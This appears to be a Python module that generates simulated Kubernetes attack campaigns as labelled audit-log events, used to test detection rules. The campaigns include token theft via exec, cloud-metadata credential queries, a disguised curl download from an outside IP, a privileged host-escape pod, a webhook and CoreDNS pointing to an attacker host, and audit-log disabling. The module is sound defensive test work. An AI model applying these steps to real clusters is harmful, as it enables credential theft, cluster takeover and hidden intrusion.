"""A labelled attack set: multi-step campaigns written as the requests an intruder's tools send, placed at
known times of the benign corpus' week, each step labelled with the rules that must raise on it.

A step is one or more requests (a burst of log reads is one step); ``rules`` are rule file names of the
pack (detections/rules/**/<name>.yml) that must each raise an alert whose evidence holds one of the
step's auditIDs. ``baselines`` name behaviour-baseline signals the step also carries (off-hours activity,
a request-rate spike, a new source address, unusual retrieval volume) for the baseline detectors of
issue 14 item 4; they are reported apart.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any, Callable, Iterator

from . import cluster as C
from .benign import HOUR
from .events import Emitter, Identity, service_account
from .generate import DEFAULT_START, parse_time

DAY = 86400.0
ATTACKER_IPS = ("198.51.100.23", "192.0.2.77", "192.0.2.10")
CURL = "curl/8.5.0"
KUBECTL_LINUX = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"


@dataclass(slots=True)
class Step:
    campaign: str
    name: str
    rules: tuple[str, ...]
    audit_ids: list[str] = field(default_factory=list)
    baselines: tuple[str, ...] = ()
    time: float = 0.0


@dataclass(slots=True)
class Campaign:
    name: str
    description: str
    start: float  # seconds after the corpus start
    build: Callable[["Writer"], None]


class Writer:
    """Records a campaign's requests and steps; ``t`` advances as steps are written."""

    def __init__(self, campaign: str, t: float, seed: int) -> None:
        self.campaign = campaign
        self.t = t
        self.em = Emitter(random.Random(f"attack:{seed}:{campaign}"))
        self.steps: list[Step] = []

    def step(self, name: str, rules: tuple[str, ...], *reqs: tuple[Identity, str, str, dict[str, Any]],
             baselines: tuple[str, ...] = (), gap: float = 20.0, spacing: float = 1.5) -> Step:
        st = Step(self.campaign, name, rules, baselines=baselines, time=self.t)
        for who, verb, res, kw in reqs:
            aid = self.em.request(self.t, who, verb, res, **kw)
            if aid:
                st.audit_ids.append(aid)
            self.t += spacing
        self.t += gap
        self.steps.append(st)
        return st

    def context(self, *reqs: tuple[Identity, str, str, dict[str, Any]], gap: float = 5.0) -> None:
        """Unlabelled requests around the steps (what the tools also send); not scored."""
        for who, verb, res, kw in reqs:
            self.em.request(self.t, who, verb, res, **kw)
            self.t += 0.5
        self.t += gap


def R(who: Identity, verb: str, res: str, **kw: Any) -> tuple[Identity, str, str, dict[str, Any]]:
    return (who, verb, res, kw)


def _exec(who: Identity, ns: str, pod: str, args: list[str], ip: str | None = None) -> tuple:
    from urllib.parse import quote
    q = "&".join(f"command={quote(a, safe='')}" for a in args) + "&container=app&stderr=true&stdout=true"
    return R(who, "create", "pods", ns=ns, name=pod, sub="exec", query=q, ip=ip, duration=4.0)


def _pod(name: str, ns: str, spec: dict[str, Any], owner: dict[str, Any] | None = None) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name, "namespace": ns}
    if owner:
        meta["ownerReferences"] = [owner]
    return {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": spec}


ESCAPE_SPEC = {"hostPID": True, "hostNetwork": True, "containers": [{
    "name": "shell", "image": "docker.io/library/alpine:3.20", "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
    "securityContext": {"privileged": True},
    "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
    "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}


# --------------------------------------------------------------------------- campaigns


def stolen_kubeconfig(w: Writer) -> None:
    """A developer's kubeconfig used from an unknown address at night: discovery, denied probing, an exec
    that steals the pod's token and reads the cloud metadata, then the token used from outside."""
    ip = ATTACKER_IPS[0]
    dev = Identity("tom.becker@corp.example", ("oidc:payments-devs", "system:authenticated"), (ip,), KUBECTL_LINUX)
    w.step("discovery and whoami from a new address", ("identity-new-public-address",),
           R(dev, "get", "", request_uri="/api?timeout=32s", level="Metadata"),
           R(dev, "get", "", request_uri="/apis?timeout=32s", level="Metadata"),
           R(dev, "create", "selfsubjectreviews", group="authentication.k8s.io"),
           baselines=("off-hours", "new-address"))
    w.step("secrets of another team denied", ("secret-read-denied", "forbidden-request-new-user-agent"),
           R(dev, "list", "secrets", ns="checkout", code=403), baselines=("off-hours",))
    w.step("permission enumeration", ("permission-enumeration-by-user",),
           *[R(dev, "list", res, group=g, ns=ns, code=403) for res, g, ns in (
               ("secrets", "", "kube-system"), ("clusterroles", "rbac.authorization.k8s.io", None),
               ("nodes", "", None), ("daemonsets", "apps", "kube-system"), ("serviceaccounts", "", "kube-system"))],
           baselines=("off-hours",))
    pod = "payments-api-7f9c6d5b8d-x2k4q"
    w.context(R(dev, "get", "pods", ns="payments", name=pod))
    w.step("exec reads the service account token", ("exec-reads-token-or-credentials", "person-exec-into-application-pod"),
           _exec(dev, "payments", pod, ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]))
    w.step("exec queries the cloud metadata service", ("exec-cloud-metadata-access",),
           _exec(dev, "payments", pod, ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]))
    w.step("exec downloads a tool over HTTPS (percent-encoded to dodge naive matching)", ("exec-download-over-https",),
           R(dev, "create", "pods", ns="payments", name=pod, sub="exec", duration=3.0,
             query="command=sh&command=-c&command=%63url%20-sL%20https%3A%2F%2F198.51.100.9%2Fx.sh%20-o%20%2Ftmp%2Fx&container=app&stdout=true"))
    stolen = service_account("payments", "payments-api", KUBECTL_LINUX, (ip,), pod=pod, node="ip-10-0-1-20.eu-west-1.compute.internal")
    w.step("stolen pod token used by kubectl from outside", ("pod-token-used-by-interactive-tool", "system-principal-from-public-ip",
                                                                   "secret-read-from-public-address"),
           R(stolen, "list", "secrets", ns="payments"), baselines=("new-address",))
    w.step("stolen pod token reads a secret by name", ("secret-read-by-node-or-pod-identity",),
           R(stolen, "get", "secrets", ns="payments", name="payments-db"))


def ci_token_escalation(w: Writer) -> None:
    """A CI deploy token (stolen from a pipeline) escalates to cluster-admin and persists: a binding, a
    forged controller-owned privileged pod, a host-escape pod in kube-system, a privileged CronJob and
    DaemonSet, a webhook to an outside URL, a new kube-system service account with a token, CoreDNS."""
    ip = "10.244.9.41"
    tok = service_account("gitlab-ci", "deployer", KUBECTL_LINUX, (ip,), pod="runner-x7-project-311-concurrent-0-abc",
                          node="ip-10-0-2-27.eu-west-1.compute.internal")
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-deployer-admin"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": "gitlab-ci"}]}
    w.context(R(tok, "create", "clusterrolebindings", group="rbac.authorization.k8s.io", body=crb, response=crb,
                query="dryRun=All"))
    w.step("cluster-admin binding for the CI token", ("binding-to-privileged-role", "serviceaccount-writes-rbac",
                                                     "binding-to-serviceaccount"),
           R(tok, "create", "clusterrolebindings", group="rbac.authorization.k8s.io", body=crb, response=crb))
    forged = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "frontend-6c9f8d7b4", "controller": True,
              "uid": "3f2b1c0d-9e8f-4a7b-8c6d-5e4f3a2b1c0d"}
    w.step("privileged pod with a forged controller owner reference", ("privileged-pod-created", "pod-sensitive-hostpath-mount",
                                                                       "rbac-change-then-workload"),
           R(tok, "create", "pods", ns="web", body=_pod("frontend-6c9f8d7b4-zz9qk", "web", ESCAPE_SPEC, forged)))
    w.step("host-escape pod in kube-system", ("privileged-pod-created", "pod-hostpid-created", "pod-created-in-system-namespace",
                                              "pod-sensitive-hostpath-mount"),
           R(tok, "create", "pods", ns="kube-system", body=_pod("kube-proxy-debug", "kube-system", ESCAPE_SPEC)))
    node = Identity("system:node:ip-10-0-2-27.eu-west-1.compute.internal", ("system:nodes", "system:authenticated"),
                    ("10.0.2.27",), C.kube_ua("kubelet"))
    mirror = _pod("sysctl-tuner-ip-10-0-2-27.eu-west-1.compute.internal", "default", dict(ESCAPE_SPEC, nodeName="ip-10-0-2-27.eu-west-1.compute.internal"),
                  {"apiVersion": "v1", "kind": "Node", "name": "ip-10-0-2-27.eu-west-1.compute.internal", "controller": True,
                   "uid": "9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a"})
    mirror["metadata"]["annotations"] = {"kubernetes.io/config.mirror": "b3f1c2d4e5", "kubernetes.io/config.source": "file"}
    w.step("static pod manifest dropped on the node (its kubelet mirrors it)", ("static-pod-mirrored",),
           R(node, "create", "pods", ns="default", body=mirror), gap=60)
    cj = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "node-maintenance", "namespace": "kube-system"},
          "spec": {"schedule": "*/30 * * * *", "jobTemplate": {"spec": {"template": {"spec": dict(ESCAPE_SPEC, restartPolicy="OnFailure")}}}}}
    w.step("privileged CronJob in kube-system", ("cronjob-created-or-modified", "workload-template-host-access"),
           R(tok, "create", "cronjobs", group="batch", ns="kube-system", body=cj, response=cj))
    ds = {"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "node-metrics", "namespace": "default"},
          "spec": {"selector": {"matchLabels": {"app": "node-metrics"}},
                   "template": {"metadata": {"labels": {"app": "node-metrics"}}, "spec": ESCAPE_SPEC}}}
    w.step("privileged DaemonSet on every node", ("daemonset-created", "workload-template-host-access"),
           R(tok, "create", "daemonsets", group="apps", ns="default", body=ds, response=ds))
    wh = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
          "metadata": {"name": "pod-defaults"},
          "webhooks": [{"name": "defaults.example.io", "clientConfig": {"url": "https://198.51.100.9:8443/mutate"},
                        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}],
                        "sideEffects": "None", "admissionReviewVersions": ["v1"]}]}
    w.step("mutating webhook sending every pod to an outside URL", ("admission-webhook-changed",),
           R(tok, "create", "mutatingwebhookconfigurations", group="admissionregistration.k8s.io", body=wh, response=wh))
    sa = {"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "node-problem-detector", "namespace": "kube-system"}}
    w.step("new service account in kube-system", ("serviceaccount-created-in-system-namespace",),
           R(tok, "create", "serviceaccounts", ns="kube-system", body=sa, response=sa))
    w.step("long-lived token for it", ("serviceaccount-token-requested",),
           R(tok, "create", "serviceaccounts", ns="kube-system", name="node-problem-detector", sub="token"))
    cm = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "coredns", "namespace": "kube-system"},
          "data": {"Corefile": ".:53 {\n rewrite name vault.corp.example attacker.example.net\n forward . 198.51.100.53\n}"}}
    w.step("CoreDNS rewired", ("coredns-config-modified",),
           R(tok, "update", "configmaps", ns="kube-system", name="coredns", body=cm, level="RequestResponse"))


def insider_exfiltration(w: Writer) -> None:
    """An engineer on the VPN, with their usual kubectl, reads far more than their work needs: logs of
    dozens of pods, every configmap, then secrets one by one and a cluster-wide secret list."""
    sre = Identity("jonas.weber@corp.example", ("oidc:platform-team", "system:authenticated"), (C.VPN_EGRESS[0],),
                   C.HUMAN_TOOLS[0][0])
    logs = [R(sre, "get", "pods", ns=ns, name=f"{ns}-{i:02d}-{'abcdef'[i % 6]}x9", sub="log", query="tailLines=5000")
            for i, ns in enumerate(["payments", "checkout", "search", "web", "data"] * 5)]
    w.step("logs of 25 pods in a few minutes", ("pod-logs-read-many-pods",), *logs, baselines=("unusual-retrieval",),
           spacing=6.0)
    cms = [R(sre, "get", "configmaps", ns=ns, name=f"{ns}-config-{i}") for i, ns in enumerate(C.APP_NAMESPACES * 4)]
    w.step("24 configmaps read one by one", ("configmaps-read-many-names",), *cms, baselines=("unusual-retrieval",),
           spacing=3.0)
    w.step("configmaps listed across all namespaces", ("configmaps-listed-cluster-wide",),
           R(sre, "list", "configmaps", query="limit=500"), baselines=("unusual-retrieval",))
    secs = [R(sre, "get", "secrets", ns=ns, name=f"{ns}-db") for ns in C.APP_NAMESPACES]
    w.step("six secrets read one by one", ("secret-get-many-names",), *secs, baselines=("unusual-retrieval",), spacing=4.0)
    w.step("secrets listed across all namespaces", ("secrets-listed-cluster-wide",),
           R(sre, "list", "secrets", query="limit=500"), baselines=("unusual-retrieval",))


def audit_tampering(w: Writer) -> None:
    """Covering tracks late at night with stolen SRE credentials and curl: the audit policy configmap, the
    log shipper's DaemonSet and configuration, the webhook receiver scaled to zero and its Service deleted,
    an egress block on the logging namespace, the namespace's events deleted."""
    ip = ATTACKER_IPS[1]
    sre = Identity("lea.fischer@corp.example", ("oidc:platform-team", "oidc:oncall", "system:authenticated"), (ip,), CURL)
    pol = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "audit-policy", "namespace": "kube-system"},
           "data": {"policy.yaml": "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n- level: None\n"}}
    w.step("audit policy replaced by level None", ("audit-trail-tampering", "identity-new-public-address"),
           R(sre, "update", "configmaps", ns="kube-system", name="audit-policy", body=pol, level="RequestResponse"),
           baselines=("off-hours", "new-address"))
    w.step("log shipper configuration emptied", ("audit-trail-tampering",),
           R(sre, "patch", "configmaps", ns="logging", name="fluent-bit", level="RequestResponse",
             body={"data": {"fluent-bit.conf": "[OUTPUT]\n    Name null\n    Match *\n"}}))
    w.step("audit webhook receiver scaled to zero", ("audit-trail-tampering",),
           R(sre, "patch", "deployments", group="apps", ns="kaudit", name="kaudit-elk-serve", sub="scale",
             body={"spec": {"replicas": 0}}, response={"kind": "Scale", "spec": {"replicas": 0}}))
    w.step("receiver Service deleted", ("audit-trail-tampering",),
           R(sre, "delete", "services", ns="kaudit", name="kaudit-elk-serve", response={"kind": "Service"}))
    w.step("log shipper DaemonSet deleted", ("audit-trail-tampering",),
           R(sre, "delete", "daemonsets", group="apps", ns="logging", name="fluent-bit", response={"kind": "DaemonSet"}))
    np = {"kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "deny-egress", "namespace": "logging"},
          "spec": {"podSelector": {}, "policyTypes": ["Egress"]}}
    w.step("egress of the logging namespace blocked", ("audit-trail-tampering",),
           R(sre, "create", "networkpolicies", group="networking.k8s.io", ns="logging", body=np, response=np))
    w.step("events deleted", ("events-deleted",),
           R(sre, "deletecollection", "events", ns="kube-system"))


def internet_scan(w: Writer) -> None:
    """Scanners on the internet: anonymous probes of the API, a misconfigured anonymous read binding that
    answers, and an offensive tool's user agent."""
    anon = Identity("system:anonymous", ("system:unauthenticated",), (ATTACKER_IPS[2],), "Go-http-client/1.1")
    probes = [R(anon, "get", res, ns="kube-system" if res != "nodes" else None, name=None, code=403)
              for res in ("secrets", "pods", "configmaps", "nodes", "serviceaccounts", "deployments", "secrets", "pods",
                          "configmaps", "daemonsets", "services", "endpoints")]
    w.step("anonymous API scan", ("unauthenticated-api-scan",), *probes, spacing=0.8, baselines=("rate-spike", "new-address"))
    w.step("anonymous read that succeeds", ("anonymous-request-allowed",),
           R(anon, "list", "pods", ns="default"))
    tool = Identity("system:anonymous", ("system:unauthenticated",), (ATTACKER_IPS[2],), "kube-hunter/0.6.8")
    w.step("offensive tool user agent", ("offensive-tool-user-agent",), R(tool, "list", "pods", ns="default", code=403))


def rate_spike(w: Writer) -> None:
    """A monitoring service account's token replayed from outside: a sudden flood of secret reads at a rate
    its owner never shows, from an address it never used."""
    ip = ATTACKER_IPS[0]
    ksm = service_account("monitoring", "kube-state-metrics", "kube-state-metrics/v2.12.0 (linux/amd64) kubernetes/$Format",
                          (ip,), pod="kube-state-metrics-6d7b9c8f5-q2w3e", node="ip-10-0-3-34.eu-west-1.compute.internal")
    w.step("service account from a public address", ("system-principal-from-public-ip",),
           R(ksm, "list", "namespaces"), baselines=("new-address",))
    reads = [R(ksm, "get", "secrets", ns=ns, name=f"{ns}-{k}") for k in range(5) for ns in C.APP_NAMESPACES]
    w.step("flood of secret reads", ("secret-get-many-names", "secret-read-from-public-address"), *reads,
           spacing=0.3, baselines=("rate-spike", "unusual-retrieval"))


CAMPAIGNS = (
    Campaign("stolen-kubeconfig", stolen_kubeconfig.__doc__ or "", 2 * DAY + 3 * HOUR + 11 * 60, stolen_kubeconfig),
    Campaign("ci-token-escalation", ci_token_escalation.__doc__ or "", 1 * DAY + 14 * HOUR + 7 * 60, ci_token_escalation),
    Campaign("insider-exfiltration", insider_exfiltration.__doc__ or "", 2 * DAY + 10 * HOUR + 40 * 60, insider_exfiltration),
    Campaign("audit-tampering", audit_tampering.__doc__ or "", 1 * DAY + 23 * HOUR + 31 * 60, audit_tampering),
    Campaign("internet-scan", internet_scan.__doc__ or "", 0 * DAY + 2 * HOUR + 3 * 60, internet_scan),
    Campaign("rate-spike", rate_spike.__doc__ or "", 2 * DAY + 16 * HOUR + 20 * 60, rate_spike),
)


def attack_events(seed: int = 1, start: str = DEFAULT_START, days: float = 3.0
                  ) -> tuple[list[dict[str, Any]], list[Step]]:
    """(events in time order, labelled steps) of the campaigns that fall inside ``days``."""
    t0 = parse_time(start)
    events: list[tuple[float, dict[str, Any]]] = []
    steps: list[Step] = []
    for c in CAMPAIGNS:
        if c.start >= days * DAY:
            continue
        w = Writer(c.name, t0 + c.start, seed)
        c.build(w)
        events += w.em.out
        steps += w.steps
    events.sort(key=lambda x: x[0])
    return [e for _, e in events], steps


def mixed_events(days: float = 3.0, seed: int = 1, nodes: int = 12, gpu_nodes: int = 2, start: str = DEFAULT_START,
                 attacks: list[dict[str, Any]] | None = None) -> Iterator[dict[str, Any]]:
    """The benign corpus with the attack events merged in at their times (both streams are time-ordered)."""
    import heapq

    from .generate import benign_events

    if attacks is None:
        attacks, _ = attack_events(seed, start, days)
    key = lambda e: e["stageTimestamp"]  # noqa: E731 - one format, so text order is time order
    yield from heapq.merge(benign_events(days, seed, nodes, gpu_nodes, start), attacks, key=key)
